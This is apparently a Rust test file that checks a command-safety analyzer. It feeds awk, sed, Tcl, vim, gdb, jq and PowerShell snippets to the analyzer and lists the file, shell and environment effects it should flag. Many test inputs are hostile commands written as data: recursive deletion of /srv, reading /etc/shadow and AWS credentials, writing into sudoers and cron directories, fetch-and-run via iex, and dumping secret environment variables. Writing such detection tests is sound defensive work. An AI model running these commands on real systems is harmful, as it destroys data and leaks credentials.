//! awk, sed, Tcl, editors, debuggers, jq and PowerShell, as a table.

use super::table::check;

#[test]
fn awk_and_sed_reach_out_only_where_their_grammar_says() {
    check(
        "awk",
        &[
            ("{print $1}", ""),
            ("$3 > 500 {n++} END {print n}", ""),
            ("/system\\(/ {c[FILENAME]++} END {for (f in c) print f, c[f]}", ""),
            ("{print \"a > b | sh\"}", ""),
            ("{if ($1 > 2 || $2 > 3) print $1; x = (a > b)}", ""),
            ("{print ($1 > 2)}", ""),
            ("BEGIN{system(\"id\")}", "sh id"),
            ("{system(\"rm \" $1)}", "?a command that is built"),
            ("{print | \"sh\"}", "sh sh"),
            ("BEGIN { \"id\" | getline x; print x }", "sh id"),
            ("BEGIN { cmd = \"rm -r\" \"f /srv/shop\"; cmd | getline }", "?getline from a command"),
            ("BEGIN { print \"x\" > \"/etc/sudoers.d/dev\" }", ">/etc/sudoers.d/dev"),
            ("{print $2 >> \"/var/x\"}", ">/var/x"),
            ("{print > $1\".txt\"}", ">./"),
            ("BEGIN{while((getline l < \"/etc/shadow\") > 0) print l}", "</etc/shadow"),
            ("BEGIN{print ENVIRON[\"TOKEN\"]}", "printenv TOKEN"),
            ("@load \"filefuncs\"; BEGIN{}", "?@load"),
            ("BEGIN{s=\"/inet/tcp/0/x/80\"; print |& s}", "?a connection | ?a command that is built"),
        ],
    );
    check(
        "sed",
        &[
            ("s/a/b/g", ""),
            ("/DROP TABLE/,/;/p", ""),
            ("s/(rm -rf) e/\\1 E/g;s/e$/E/", ""),
            ("s|/etc/w|/e/w|;2d;$!N;P;D", ""),
            ("1i\\e id", ""),
            ("y/abc/ewr/", ""),
            ("/e/{s/w/e/;b end};:end", ""),
            ("s/^RUN //ep", "?the e flag"),
            ("1e id", "sh id"),
            ("e", "?e"),
            ("s/a/b/w /etc/cron.d/x", ">/etc/cron.d/x"),
            ("w /etc/x", ">/etc/x"),
            ("1r /etc/shadow", "</etc/shadow"),
            ("s,a,b,ge", "?the e flag"),
            ("/x/w /dev/stdout", ""),
            ("s/[/]e/w/", ""),
        ],
    );
}

#[test]
fn tcl_is_read_command_by_command() {
    check(
        "tclsh",
        &[
            ("puts [expr {2+3}]", ""),
            ("puts {exec rm -rf /}", ""),
            ("puts \"file delete x\"", ""),
            ("# exec rm\nputs [clock format 0]", ""),
            ("exec rm -rf /srv", "rm -rf /srv"),
            ("puts [exec id]", "id"),
            ("exec echo x | sh", "sh echo x | sh"),
            ("file delete -force /srv/shop", "rm -rf /srv/shop"),
            ("if {[file exists /a]} { file rename /a /b }", "mv /a /b"),
            ("set c {file delete -force /srv/shop}\neval $c", "?eval"),
            ("open \"|rm -rf /srv\"", "sh rm -rf /srv"),
            ("set f [open /etc/x w]", ">/etc/x"),
            ("source /tmp/x.tcl", "?source"),
            ("$x y", "?a command whose name is built"),
            ("socket x 80", "?socket"),
        ],
    );
    check("expect", &[("spawn ssh root@db01; send \"dropdb shop\\r\"", "ssh root@db01 | sh dropdb shop\n")]);
}

#[test]
fn editors_and_debuggers_run_what_their_commands_say() {
    check(
        "vim",
        &[
            ("%s/foo/bar/ge", ""),
            ("wq", ""),
            (":set number", ""),
            ("s/!rm/x/", ""),
            (":!rm -rf /srv", "sh rm -rf /srv"),
            (":silent !rm -rf /srv", "sh rm -rf /srv"),
            ("%!sort", "sh sort"),
            ("r !id", "sh id"),
            ("w !sh", "sh sh"),
            ("py3 import os; os.system('id')", "sh id"),
            ("lua os.execute('id')", "sh id"),
            ("call system('id')", "?a function that reaches out"),
            ("source /tmp/x.vim", "?source"),
            ("w /etc/x", ">/etc/x"),
            ("term id", "sh id"),
        ],
    );
    check(
        "gdb",
        &[
            ("bt full", ""),
            ("info registers", ""),
            ("print x", ""),
            ("shell id", "sh id"),
            ("!id", "sh id"),
            ("python __import__('os').system('sh /tmp/x')", "sh sh /tmp/x"),
            ("python print(1)", ""),
            ("call system(\"id\")", "?a function of the program"),
            ("set pagination off", ""),
            ("source /tmp/x", "?source"),
        ],
    );
}

#[test]
fn jq_reads_the_environment_and_powershell_runs_programs() {
    check(
        "jq",
        &[
            (".scripts | to_entries[] | select(.value|test(\"rm -rf|publish\")) | .key", ""),
            (".env.name", ""),
            ("env.AWS_SECRET_ACCESS_KEY", "printenv AWS_SECRET_ACCESS_KEY"),
            ("$ENV.TOKEN", "printenv TOKEN"),
            ("\"env.TOKEN\"", ""),
            ("env", "printenv"),
        ],
    );
    check(
        "pwsh",
        &[
            ("Get-ChildItem -Recurse | Measure-Object", ""),
            ("Write-Host 'Remove-Item x'", ""),
            ("Remove-Item -Recurse -Force /srv", "rm -rf /srv"),
            ("gci | % { del $_ }", "rm -rf $(…)"),
            ("iex (iwr http://x)", "?iex | curl http://x"),
            ("& rm -rf /srv", "rm -rf /srv"),
            ("Stop-Service x", "?Stop-Service"),
            ("[IO.File]::Delete('/srv/x')", "?delete"),
            ("Get-Content ~/.aws/credentials", "cat ~/.aws/credentials"),
            ("git status; $x = 1", "git status"),
        ],
    );
}

#[test]
fn a_bracket_that_closes_what_nothing_opened_is_no_end() {
    check("node", &[("x r} = require('fs'); r('/a')", ""), ("r} = require('fs')", ""), ("} = require('fs')", "")]);
}
